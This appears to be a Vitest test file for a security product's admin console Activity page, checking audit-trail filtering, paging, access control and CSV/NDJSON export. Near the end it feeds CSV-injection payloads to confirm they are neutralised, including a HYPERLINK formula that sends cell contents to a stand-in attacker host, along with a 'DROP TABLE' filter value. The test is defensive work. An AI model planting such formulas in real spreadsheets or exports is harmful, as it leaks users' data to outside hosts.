/**
 * The console's Activity page: the tenant's audit trail as a table, filtered by event, user and
 * time (read in the page's time zone or UTC), paged, and downloaded whole as CSV or NDJSON, the
 * same entries the admin API lists for the same filter.
 */
import { env, SELF } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { EXPORT_BATCH_ENTRIES } from "../../src/flows/audit-export";
import { tenantState } from "../../src/state/tenant";
import { adminGet, aTenantKey, keyHeaders } from "../support/admin";
import { adminHeaders, send } from "../support/builders";
import { aConsoleAdmin, BROWSER, CONSOLE, type ConsoleAdmin } from "../support/console";
import { readCsv } from "../support/csv-reader";
import { anEvent, until } from "../support/events";
import { aReceiver } from "../support/webhooks";

type Entry = {
  seq: number;
  at: string;
  type: string;
  user: string | null;
  actor: string | null;
  ip: string | null;
  userAgent: string | null;
  detail: Record<string, unknown>;
};

interface Seeded {
  type?: string;
  at?: number;
  ip?: string | null;
  userAgent?: string | null;
  detail?: Record<string, unknown>;
}

/** Entries of `userId`'s trail, stored in the tenant's object as the event stream's consumer stores them. */
async function seed(tenantId: string, userId: string, entries: Seeded[]): Promise<void> {
  const events = entries.map((e) =>
    anEvent(tenantId, userId, {
      at: new Date(e.at ?? Date.now()).toISOString(),
      type: e.type ?? "verify.failed",
      ip: e.ip === undefined ? "203.0.113.5" : e.ip,
      userAgent: e.userAgent ?? "Mozilla/5.0 (test)",
      detail: e.detail ?? { factor: "totp" },
    }),
  );
  await tenantState(env, tenantId).storeEvents(tenantId, events);
}

/** Every entry the admin API lists for `query`, page after page. */
async function apiEntries(admin: ConsoleAdmin, query: string): Promise<Entry[]> {
  const all: Entry[] = [];
  let cursor: string | null = null;
  do {
    const page: { entries: Entry[]; nextCursor: string | null } = await adminGet(
      `${admin.base}/__stepgate/admin/v1/audit?limit=200&${query}${cursor ? `&cursor=${cursor}` : ""}`,
    );
    all.push(...page.entries);
    cursor = page.nextCursor;
  } while (cursor);
  return all;
}

/** The table's rows: each entry's number and type, in the page's order. */
function rows(html: string): Array<{ seq: number; type: string }> {
  return [...html.matchAll(/<tr data-seq="(\d+)" data-type="([^"]+)"/g)].map((m) => ({ seq: Number(m[1]), type: m[2]! }));
}

/** `ms` on the wall clock of `timeZone`, as a `datetime-local` field holds it. */
function wallClock(ms: number, timeZone: string): string {
  const parts = new Intl.DateTimeFormat("en-US", {
    timeZone,
    hourCycle: "h23",
    year: "numeric",
    month: "2-digit",
    day: "2-digit",
    hour: "2-digit",
    minute: "2-digit",
    second: "2-digit",
  }).formatToParts(ms);
  const part = (type: string) => parts.find((p) => p.type === type)!.value;
  return `${part("year")}-${part("month")}-${part("day")}T${part("hour")}:${part("minute")}:${part("second")}`;
}

/** The Activity page (or an export) as the admin's browser in `timeZone` loads it. */
function load(admin: ConsoleAdmin, path: string, timeZone?: string): Promise<Response> {
  return SELF.fetch(`${admin.base}${CONSOLE}${path}`, {
    redirect: "manual",
    headers: { ...BROWSER, Cookie: admin.cookie },
    ...(timeZone ? { cf: { timezone: timeZone } } : {}),
  } as RequestInit);
}

const query = (fields: Record<string, string>) => new URLSearchParams(fields).toString();

/** A download's text (`Response.text()` warns about a media type it does not take for text). */
const fileText = async (response: Response) => new TextDecoder().decode(await response.arrayBuffer());

describe("the console's Activity page", () => {
  it("shows the trail newest first: the event in words, the user linked, who acted, the IP and the details", async () => {
    const admin = await aConsoleAdmin();
    await seed(admin.tenantId, "kim lee/1", [{ type: "verify.ok", detail: { operation: "withdraw", factor: "totp" } }, { type: "verify.failed" }]);
    await send(`${admin.base}/__stepgate/admin/v1/keys`, {
      method: "POST",
      headers: adminHeaders(),
      body: JSON.stringify({ name: "ops", scopes: ["audit:read"] }),
    });
    const html = await admin.html("/activity");
    expect(rows(html).map((r) => r.type)).toEqual(["key.created", "verify.failed", "verify.ok", "console.signed_in"]);
    expect(rows(html).map((r) => r.seq)).toEqual([...rows(html).map((r) => r.seq)].sort((a, b) => b - a));
    expect(html).toContain("API key created");
    expect(html).toContain("Wrong code");
    expect(html).toContain('href="/__stepgate/admin/users/kim%20lee%2F1"');
    expect(html).toContain("<code>bootstrap</code>");
    expect(html).toContain("<code>203.0.113.5</code>");
    expect(html).toContain("operation=withdraw factor=totp");
    expect(html).toMatch(/<nav class="console"[\s\S]*href="\/__stepgate\/admin\/activity" aria-current="page"/);
  });

  it("filters by an event, a group of events (verify.*) and a user", async () => {
    const admin = await aConsoleAdmin();
    await seed(admin.tenantId, "kim", [{ type: "verify.ok" }, { type: "verify.failed" }, { type: "factor.enrolled" }]);
    await seed(admin.tenantId, "lou", [{ type: "verify.failed" }, { type: "code.sent" }]);
    const types = async (fields: Record<string, string>) => rows(await admin.html(`/activity?${query(fields)}`)).map((r) => r.type);
    expect(await types({ type: "verify.failed" })).toEqual(["verify.failed", "verify.failed"]);
    expect(await types({ type: "verify.*" })).toEqual(["verify.failed", "verify.failed", "verify.ok"]);
    expect(await types({ user: "kim" })).toEqual(["factor.enrolled", "verify.failed", "verify.ok"]);
    expect(await types({ user: "lou", type: "verify.*" })).toEqual(["verify.failed"]);
    const page = await admin.html(`/activity?${query({ type: "verify.*", user: "lou" })}`);
    // The form shows the filter it applied.
    expect(page).toMatch(/<option value="verify\.\*" selected="">/);
    expect(page).toContain('name="user" value="lou"');
    expect(await types({ user: "nobody" })).toEqual([]);
    expect(await admin.html(`/activity?user=nobody`)).toContain('id="no-entries"');
  });

  it("reads the time range in the page's time zone, or in UTC when the form says so", async () => {
    const admin = await aConsoleAdmin();
    const now = Date.now();
    const hour = 3_600_000;
    await seed(admin.tenantId, "tim", [
      { type: "verify.ok", at: now - 3 * hour },
      { type: "verify.failed", at: now - 2 * hour },
      { type: "factor.enrolled", at: now - hour },
    ]);
    const from = now - 2.5 * hour;
    const until = now - 0.5 * hour;
    const berlin = await load(
      admin,
      `/activity?${query({ user: "tim", from: wallClock(from, "Europe/Berlin"), until: wallClock(until, "Europe/Berlin") })}`,
      "Europe/Berlin",
    );
    const html = await berlin.text();
    expect(rows(html).map((r) => r.type)).toEqual(["factor.enrolled", "verify.failed"]);
    expect(html).toContain("(Europe/Berlin)");
    expect(html).toMatch(/<option value="Europe\/Berlin" selected="">/);
    // The same wall-clock times read as UTC are another range.
    const utcFields = { user: "tim", from: wallClock(from, "UTC"), until: wallClock(until, "UTC"), zone: "UTC" };
    const utc = await load(admin, `/activity?${query(utcFields)}`, "Europe/Berlin");
    expect(rows(await utc.text()).map((r) => r.type)).toEqual(["factor.enrolled", "verify.failed"]);
    const onlyFrom = await load(admin, `/activity?${query({ user: "tim", from: wallClock(now - 1.5 * hour, "Asia/Tokyo"), zone: "Asia/Tokyo" })}`);
    expect(rows(await onlyFrom.text()).map((r) => r.type)).toEqual(["factor.enrolled"]);
  });

  it("pages with “Older entries”, keeping the filters, each entry once", async () => {
    const admin = await aConsoleAdmin();
    await seed(
      admin.tenantId,
      "pat",
      Array.from({ length: 70 }, () => ({ type: "verify.failed" })),
    );
    await seed(admin.tenantId, "pat", [{ type: "code.sent" }]);
    const first = await admin.html(`/activity?type=verify.failed`);
    expect(rows(first)).toHaveLength(50);
    const older = /<a href="([^"]+)" rel="next" id="older">/.exec(first)![1]!.replace(/&amp;/g, "&");
    expect(older).toMatch(/^\/__stepgate\/admin\/activity\?type=verify.failed&cursor=\d+$/);
    const second = await admin.html(older.replace(CONSOLE, ""));
    expect(rows(second)).toHaveLength(20);
    expect(rows(second).every((r) => r.type === "verify.failed")).toBe(true);
    expect(new Set([...rows(first), ...rows(second)].map((r) => r.seq)).size).toBe(70);
    expect(second).not.toContain('id="older"');
    expect(second).toContain('href="/__stepgate/admin/activity?type=verify.failed"');
  });

  it.each([
    [{ type: "DROP TABLE" }, "type", "Choose an event from the list."],
    [{ user: "x".repeat(300) }, "user", "A user ID is 1 to 256 characters long."],
    [{ from: "yesterday" }, "from", "Enter a date and a time of day."],
    [{ until: "2026-02-30T10:00" }, "until", "Enter a date and a time of day."],
    [{ from: "2026-11-02T14:00", until: "2026-11-02T13:00" }, "until", "This is before the start."],
  ])("refuses the filter %j beside its field, with no table", async (fields, field, message) => {
    const admin = await aConsoleAdmin();
    for (const path of ["/activity", "/activity/export.csv"]) {
      const html = await admin.html(`${path}?${query(fields)}`, 400);
      expect(html).toMatch(new RegExp(`id="${field}"[^>]*aria-invalid="true" aria-describedby="${field}-error"`));
      expect(html).toContain(`<p class="error" id="${field}-error">${message.replace(/'/g, "&#39;")}</p>`);
      expect(html).not.toContain('id="entries"');
    }
  });

  it("names the webhooks' entries and a replayed dead letter in words, and filters the webhooks' as a group", async () => {
    const admin = await aConsoleAdmin();
    const api = (method: string, path: string, body?: unknown) =>
      send(`${admin.base}/__stepgate/admin/v1${path}`, { method, headers: adminHeaders(), ...(body ? { body: JSON.stringify(body) } : {}) });
    const receiver = await aReceiver({ status: 410 });
    const made = await (await api("POST", "/webhooks", { url: receiver.url, eventTypes: ["verify.*"] })).json<{ id: string }>();
    await api("PATCH", `/webhooks/${made.id}`, { description: "SIEM" });
    await api("POST", `/webhooks/${made.id}/rotate-secret`);
    // The receiver answers 410 Gone: stepgate turns the webhook off.
    expect((await api("POST", `/webhooks/${made.id}/test`)).status).toBe(202);
    await until(async () => (await apiEntries(admin, "type=webhook.disabled")).length === 1, "the webhook turned off");
    expect((await api("DELETE", `/webhooks/${made.id}`)).status).toBe(204);
    const dead = anEvent(admin.tenantId, "kim", { type: "device.trusted" });
    await tenantState(env, admin.tenantId).keepDeadEvents(admin.tenantId, [dead]);
    expect((await api("POST", `/events/dead/${dead.id}/replay`)).status).toBe(200);

    const html = await admin.html("/activity");
    const words = (type: string) => new RegExp(`<tr data-seq="\\d+" data-type="${type.replace(".", "\\.")}"[^>]*>[\\s\\S]*?<td>([^<]+)</td>`).exec(html)?.[1];
    expect(
      Object.fromEntries(
        ["webhook.created", "webhook.updated", "webhook.rotated", "webhook.tested", "webhook.disabled", "webhook.deleted", "event.replayed"].map((type) => [
          type,
          words(type),
        ]),
      ),
    ).toEqual({
      "webhook.created": "Webhook added",
      "webhook.updated": "Webhook settings changed",
      "webhook.rotated": "New webhook signing secret made",
      "webhook.tested": "Webhook test event sent",
      "webhook.disabled": "Webhook turned off: the receiver answered that its address is gone (410)",
      "webhook.deleted": "Webhook deleted",
      "event.replayed": "Undelivered event sent again",
    });
    expect(html).toContain('<option value="webhook.*">Webhooks: all</option>');
    const webhooksOnly = rows(await admin.html(`/activity?${query({ type: "webhook.*" })}`)).map((r) => r.type);
    expect(webhooksOnly).toEqual(["webhook.deleted", "webhook.disabled", "webhook.tested", "webhook.rotated", "webhook.updated", "webhook.created"]);
  });

  it("shows the newest entries, and says so, for a page link that is not one", async () => {
    const admin = await aConsoleAdmin();
    const html = await admin.html("/activity?cursor=-4");
    expect(html).toContain('id="bad-page"');
    expect(rows(html).map((r) => r.type)).toEqual(["console.signed_in"]);
  });

  it("is refused (403) to an admin without audit:read, page and downloads, and is not in their sections", async () => {
    const admin = await aConsoleAdmin({}, ["users:read", "policy:read"]);
    for (const path of ["/activity", "/activity/export.csv", "/activity/export.ndjson"]) {
      const response = await admin.get(path);
      expect(response.status, path).toBe(403);
      expect(response.headers.get("Content-Disposition"), path).toBeNull();
    }
    expect(await admin.html("/")).not.toContain('href="/__stepgate/admin/activity"');
    const auditor = await aConsoleAdmin({}, ["audit:read"]);
    expect((await auditor.get("/activity")).status).toBe(200);
    expect(await auditor.html("/")).toContain('href="/__stepgate/admin/activity"');
  });
});

describe("the Activity page's downloads", () => {
  it("offers the filtered range as CSV and NDJSON", async () => {
    const admin = await aConsoleAdmin();
    const html = await admin.html(`/activity?${query({ type: "verify.*", user: "kim" })}`);
    expect(html).toContain('href="/__stepgate/admin/activity/export.csv?type=verify.*&amp;user=kim"');
    expect(html).toContain('href="/__stepgate/admin/activity/export.ndjson?type=verify.*&amp;user=kim"');
  });

  it("streams every entry of the filter as CSV (more than one batch), the same rows as the API", async () => {
    const admin = await aConsoleAdmin();
    const many = 2 * EXPORT_BATCH_ENTRIES + 37;
    await seed(
      admin.tenantId,
      "bulk",
      Array.from({ length: many }, (_, i) => ({ type: i % 3 === 0 ? "verify.ok" : "verify.failed", detail: { n: i, note: 'a, "b"\nc' } })),
    );
    await seed(admin.tenantId, "bulk", [{ type: "code.sent" }]);
    const response = await admin.get("/activity/export.csv?type=verify.*");
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toMatch(new RegExp(`^attachment; filename="stepgate-audit-${admin.tenantId}-\\d{8}T\\d{6}Z\\.csv"$`));
    const [header, ...records] = readCsv(await response.text());
    expect(header).toEqual(["seq", "at", "type", "user", "actor", "ip", "userAgent", "detail"]);
    const api = await apiEntries(admin, "type=verify.*");
    expect(api).toHaveLength(many);
    expect(records).toEqual(
      api.map((e) => [String(e.seq), e.at, e.type, e.user ?? "", e.actor ?? "", e.ip ?? "", e.userAgent ?? "", JSON.stringify(e.detail)]),
    );
  });

  it("streams NDJSON: each line one JSON entry, as the API lists them", async () => {
    const admin = await aConsoleAdmin();
    await seed(
      admin.tenantId,
      "nia",
      Array.from({ length: EXPORT_BATCH_ENTRIES + 5 }, () => ({ type: "verify.failed" })),
    );
    await seed(admin.tenantId, "ole", [{ type: "verify.failed" }]);
    const response = await admin.get("/activity/export.ndjson?user=nia");
    expect(response.headers.get("Content-Type")).toBe("application/x-ndjson");
    expect(response.headers.get("Content-Disposition")).toMatch(/^attachment; filename="stepgate-audit-.+\.ndjson"$/);
    const text = await fileText(response);
    expect(text.endsWith("\n")).toBe(true);
    const lines = text.slice(0, -1).split("\n");
    const entries = lines.map((line) => JSON.parse(line) as Entry);
    expect(entries).toEqual(await apiEntries(admin, "user=nia"));
    expect(entries).toHaveLength(EXPORT_BATCH_ENTRIES + 5);
  });

  it("neutralises cells a spreadsheet would run as formulas; the NDJSON keeps them as they are", async () => {
    const admin = await aConsoleAdmin();
    const formulas = ['=HYPERLINK("https://evil.test?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"];
    for (const [i, formula] of formulas.entries())
      await seed(admin.tenantId, formula, [{ type: "verify.failed", userAgent: formula, ip: i === 0 ? "=1" : "198.51.100.7" }]);
    const [, ...records] = readCsv(await (await admin.get("/activity/export.csv?type=verify.failed")).text());
    expect(records).toHaveLength(formulas.length);
    for (const [i, formula] of [...formulas].reverse().entries()) {
      const [, , , user, , ip, userAgent] = records[i]!;
      expect(user).toBe(`'${formula}`);
      expect(userAgent).toBe(`'${formula}`);
      if (i === formulas.length - 1) expect(ip).toBe("'=1");
    }
    // A cell that only looks like a number stays one; a plain one is not touched.
    expect(records.every((r) => /^\d+$/.test(r[0]!))).toBe(true);
    const ndjson = (await fileText(await admin.get("/activity/export.ndjson?type=verify.failed"))).trim().split("\n");
    expect(ndjson.map((line) => (JSON.parse(line) as Entry).user)).toEqual([...formulas].reverse());
  });
});

describe("the admin API's audit export", () => {
  it("answers GET /audit/export with the same file, for a key with audit:read only", async () => {
    const admin = await aConsoleAdmin();
    await seed(admin.tenantId, "kai", [{ type: "verify.ok" }, { type: "verify.failed" }]);
    const auditor = await aTenantKey(admin.base, ["audit:read"]);
    const csv = await send(`${admin.base}/__stepgate/admin/v1/audit/export?format=csv&user=kai`, { headers: keyHeaders(auditor.key) });
    expect(csv.status).toBe(200);
    const fromConsole = await (await admin.get("/activity/export.csv?user=kai")).text();
    expect(await csv.text()).toBe(fromConsole);
    const ndjson = await send(`${admin.base}/__stepgate/admin/v1/audit/export?format=ndjson&type=verify.ok`, { headers: keyHeaders(auditor.key) });
    expect(ndjson.headers.get("Content-Type")).toBe("application/x-ndjson");
    expect(
      (await fileText(ndjson))
        .trim()
        .split("\n")
        .map((line) => (JSON.parse(line) as Entry).type),
    ).toEqual(["verify.ok"]);
  });

  it("refuses a key without audit:read, and a bad format or filter", async () => {
    const admin = await aConsoleAdmin();
    const other = await aTenantKey(admin.base, ["users:read"]);
    expect((await send(`${admin.base}/__stepgate/admin/v1/audit/export?format=csv`, { headers: keyHeaders(other.key) })).status).toBe(403);
    for (const [path, pointer] of [
      ["?format=xlsx", "#/format"],
      ["", "#/format"],
      ["?format=csv&since=yesterday", "#/since"],
      ["?format=csv&limit=5", "#/limit"],
    ]) {
      const response = await send(`${admin.base}/__stepgate/admin/v1/audit/export${path}`, { headers: adminHeaders() });
      expect(response.status, path).toBe(400);
      expect(
        (await response.json<{ errors: Array<{ pointer: string }> }>()).errors.map((e) => e.pointer),
        path,
      ).toContain(pointer);
    }
  });
});
